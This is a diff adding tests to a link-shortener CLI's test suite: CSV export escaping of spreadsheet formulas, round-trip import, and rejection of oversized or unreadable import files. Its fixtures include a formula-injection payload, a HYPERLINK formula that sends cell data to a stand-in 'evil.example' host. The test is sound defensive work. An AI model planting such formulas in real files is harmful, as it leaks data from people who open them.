@@ -86,6 +86,57 @@ describe('pnpm shortlinks export', () => {
   });
 });
 
+describe('spreadsheet formulas in the CSV export', () => {
+  test('guarded by default, raw with --raw-csv, and the guarded file imports back to the exact values', { timeout: 120_000 }, async () => {
+    const carol = await createAccount(server, { plan: 'unlimited' });
+    const links = [
+      { title: '=HYPERLINK("http://evil.example/?"&A1,"click")', tag_names: ['=1+1', "'-x"], comments: '=cmd', slug: '-formula' },
+      { title: '=1+1', external_id: '+49 30 1234', comments: "'=kept as typed" },
+      { title: "''@two apostrophes", tag_names: ['plain'], external_id: '@crm' },
+    ];
+    for (const [i, link] of links.entries()) {
+      const created = await carol.call('POST', '/links', { ...link, destination_url: `https://example.com/formula/${i}` });
+      expect(created.status, JSON.stringify(created.body)).toBe(201);
+    }
+    const env = { DATABASE_URL: server.databaseUrl, SHORT_DOMAIN: server.shortDomain };
+    const file = path.join(dir, 'formulas.csv');
+    const guarded = await runCli(['export', '--account', carol.account.id, '--output', file], env);
+    expect(guarded.code, guarded.stderr).toBe(0);
+    const text = await readFile(file, 'utf8');
+    // Every cell, quoted or not, starts with something a spreadsheet shows as text.
+    const cellStarts = text.split('\r\n').flatMap((line) => line.split(',').map((cell) => cell.replace(/^"/, '')));
+    expect(cellStarts.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",''-x|=1+1,,'=cmd,`);
+
+    const raw = await runCli(['export', '--account', carol.account.id, '--raw-csv'], env);
+    expect(raw.code, raw.stderr).toBe(0);
+    expect(raw.stdout).toBe(
+      await (await fetch(`${server.api}/links/export?csv_formulas=raw`, { headers: { authorization: `Bearer ${carol.key}` } })).text(),
+    );
+    expect(raw.stdout).toContain(',=1+1,,+49 30 1234,');
+    const jsonl = await runCli(['export', '--account', carol.account.id, '--raw-csv', '--format', 'jsonl'], env);
+    expect(jsonl.code).toBe(2);
+    expect(jsonl.stderr).toContain('--raw-csv');
+
+    const original = linksOf((await runCli(['export', '--account', carol.account.id, '--format', 'jsonl'], env)).stdout);
+    expect(original.map((link) => link.title)).toEqual(links.map((link) => link.title));
+    const other = await startTestServer();
+    try {
+      const fresh = await createAccount(other, { plan: 'unlimited' });
+      const imported = await runCli(['import', '--account', fresh.account.id, file], {
+        DATABASE_URL: other.databaseUrl,
+        SHORT_DOMAIN: other.shortDomain,
+      });
+      expect(imported.code, imported.stdout + imported.stderr).toBe(0);
+      expect(imported.stdout).toMatch(/created\s+3\b/);
+      const again = await fetch(`${other.api}/links/export?format=jsonl`, { headers: { authorization: `Bearer ${fresh.key}` } });
+      expect(linksOf(await again.text())).toEqual(original);
+    } finally {
+      await other.close();
+    }
+  });
+});
+
 /** The links of an export, without what belongs to the exporting account (id, click count). */
 function linksOf(jsonl: string) {
   return jsonl
@@ -213,6 +264,33 @@ describe('pnpm shortlinks import', () => {
     expect(result.code, result.stderr).toBe(0);
     expect(result.stdout).toMatch(/created\s+2\b/);
     expect(await countRows(server, 'link', `account_id = '${dave.account.id}'`)).toBe(2);
+  });
+
+  test('a JSON line or value past the record cap, /dev/zero and a directory stop the import: exit 2, nothing imported', {
+    timeout: 120_000,
+  }, async () => {
+    const erin = await createAccount(server, { plan: 'unlimited' });
+    const env = { DATABASE_URL: server.databaseUrl, SHORT_DOMAIN: server.shortDomain };
+    const longLine = path.join(dir, 'long-line.jsonl');
+    const link = { slug: 'cap-1', destination_url: 'https://example.com/cap' };
+    await writeFile(longLine, `${JSON.stringify({ ...link, comments: 'x'.repeat(4 * 1024 * 1024) })}\n`);
+    const longValue = path.join(dir, 'long-description.json');
+    await writeFile(
+      longValue,
+      JSON.stringify({ total: 1, data: [{ address: 'cap-2', target: link.destination_url, description: 'd'.repeat(4 * 1024 * 1024) }] }),
+    );
+    const cases: [string[], string][] = [
+      [[longLine], 'line 1 runs past 256 KiB'],
+      [[longValue], 'runs past 256 KiB'],
+      [['--format', 'shortlinks-jsonl', '/dev/zero'], 'line 1 runs past 256 KiB'],
+      [[dir], 'cannot read'],
+    ];
+    for (const [args, message] of cases) {
+      const result = await runCli(['import', '--account', erin.account.id, ...args], env);
+      expect(result.code, `${args.join(' ')}: ${result.stderr}`).toBe(2);
+      expect(result.stderr).toContain(message);
+    }
+    expect(await countRows(server, 'link', `account_id = '${erin.account.id}'`)).toBe(0);
   });
 
   test('a bad --on-conflict, a missing file or a file of no known format is a usage error (exit 2)', { timeout: 60_000 }, async () => {
